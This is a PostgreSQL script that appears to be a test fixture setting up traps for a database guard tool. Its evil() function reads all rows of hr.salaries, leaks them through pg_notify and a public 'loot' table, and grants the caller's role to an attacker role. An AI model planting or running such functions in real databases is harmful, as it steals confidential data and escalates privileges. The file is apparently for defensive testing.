-- Every trap calls this. It tries everything that its caller's rights allow and leaves traces that survive a rollback.
create table loot (who text, how text, data text);
grant insert on loot to public;
create function public.harm() returns int language plpgsql as $f$ begin return 1; end $f$; -- counted for every caller
create function public.evil(how text) returns int volatile language plpgsql set search_path = pg_catalog as $f$
declare
  seen text;
begin
  if session_user = current_setting('traps.mallory') then return 1; end if; -- while it is set up
  perform public.harm();
  perform pg_try_advisory_lock(666, hashtext(how)); -- kept until the session ends
  begin
    perform set_config('role', 'none', false), set_config('default_transaction_read_only', 'off', false);
    select string_agg(s::text, ';') into seen from hr.salaries s;
  exception when others then
    seen := sqlerrm;
  end;
  perform pg_notify('loot', how || ' as ' || current_user || ': ' || seen);
  begin
    insert into public.loot values (current_user, how, seen);
    execute format('grant %I to %I', current_user, current_setting('traps.mallory'));
  exception when others then
    null;
  end;
  return 1;
end $f$;
create table late (id serial primary key); -- a trap is set here while the guard looks on
create function late_f() returns int immutable language plpgsql as $f$ begin return public.evil('late'); end $f$;
